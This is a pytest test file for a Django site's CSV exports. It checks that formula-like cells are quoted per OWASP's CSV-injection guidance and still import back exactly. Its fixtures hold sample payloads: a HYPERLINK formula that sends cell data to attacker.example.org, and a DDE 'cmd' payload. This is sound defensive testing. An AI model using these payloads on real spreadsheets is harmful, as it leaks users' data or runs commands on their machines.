"""The admin's CSV exports never hand a spreadsheet a formula (OWASP's CSV
injection advice: a quote before cells starting with = + - @ tab or CR), and
the services export still imports back exactly."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from directory.importing.csv_format import NUMBER_COLUMNS
from directory.importing.spreadsheet import FORMULA_STARTS, neutralise, restore
from directory.models import Location, Organisation, Service

from .factories import ContactRouteFactory, OrganisationFactory, ServiceFactory, place

HYPERLINK = '=HYPERLINK("https://attacker.example.org/?d="&A1,"Click for help")'
STORED = {
    "name": HYPERLINK,
    "summary": "+1+cmd|' /C calc'!A0",
    "description": "- a list item\n- another",
    "hours_note": "@SUM(1+1)",
    "verified_by": "'=already quoted by an editor",
    "alert": "'Tis the season: shorter hours",
}


@pytest.fixture
def formula_service(db):
    service = ServiceFactory(organisation=OrganisationFactory(name="=1+1 Example Organisation"), **STORED)
    ContactRouteFactory(service=service, number="+44 1632 960000")
    place(service, "52.410338", "-1.509154", name="-Example Centre")
    return service


def export_rows(admin_client, url):
    response = admin_client.get(url, {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return text, list(csv.DictReader(io.StringIO(text)))


def formula_cells(row, number_columns=frozenset()):
    """Cells a spreadsheet would run, other than plain numbers in number columns."""

    def plain_number(column, value):
        return column in number_columns and value.lstrip("-").replace(".", "", 1).isdigit()

    return {
        column: value
        for column, value in row.items()
        if value.startswith(FORMULA_STARTS) and not plain_number(column, value)
    }


def test_services_export_quotes_every_formula_like_cell(admin_client, formula_service):
    _text, rows = export_rows(admin_client, "/admin/snippets/directory/service/")
    row = rows[0]
    assert formula_cells(row, number_columns=NUMBER_COLUMNS) == {}
    assert row["name"] == "'" + HYPERLINK
    assert row["organisation_name"] == "'=1+1 Example Organisation"
    assert row["summary"].startswith("'+1+cmd")
    assert row["location_name"] == "'-Example Centre"
    assert row["verified_by"] == "''=already quoted by an editor"
    assert row["alert"] == "'Tis the season: shorter hours", "an ordinary apostrophe is left alone"
    # Phone numbers are quoted (a sheet reads +44 … as a formula); coordinates
    # are numbers, and stay numbers.
    assert row["route1_contact"] == "'+44 1632 960000"
    assert row["longitude"] == "-1.509154"


def test_services_export_imports_back_exactly(admin_client, formula_service, tmp_path):
    text, _rows = export_rows(admin_client, "/admin/snippets/directory/service/")
    path = tmp_path / "services.csv"
    path.write_text(text, encoding="utf-8")
    Service.objects.all().delete()
    Location.objects.all().delete()
    Organisation.objects.all().delete()
    call_command("import_services", str(path), stdout=io.StringIO())
    service = Service.objects.get()
    assert {field: getattr(service, field) for field in STORED} == STORED
    assert service.organisation.name == "=1+1 Example Organisation"
    assert [phone.number for phone in service.contact_routes.all()] == ["+44 1632 960000"]
    location = service.service_at_locations.get().location
    assert location.name == "-Example Centre" and location.longitude == Decimal("-1.509154")


def test_overdue_report_export_quotes_formula_like_cells(admin_client):
    service = ServiceFactory(name=HYPERLINK)
    Service.objects.filter(pk=service.pk).update(next_review_due=datetime.date(2000, 1, 1))
    text, rows = export_rows(admin_client, "/admin/reports/overdue-services/")
    assert [formula_cells(row) for row in rows] == [{}]
    assert "'" + HYPERLINK in [value for row in rows for value in row.values()]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_owasp_start_is_neutralised(start):
    assert neutralise(f"{start}cmd") == f"'{start}cmd"
    assert restore(neutralise(f"{start}cmd")) == f"{start}cmd"


@given(st.text())
def test_restore_undoes_neutralise_for_any_text(text):
    cell = neutralise(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert restore(cell) == text
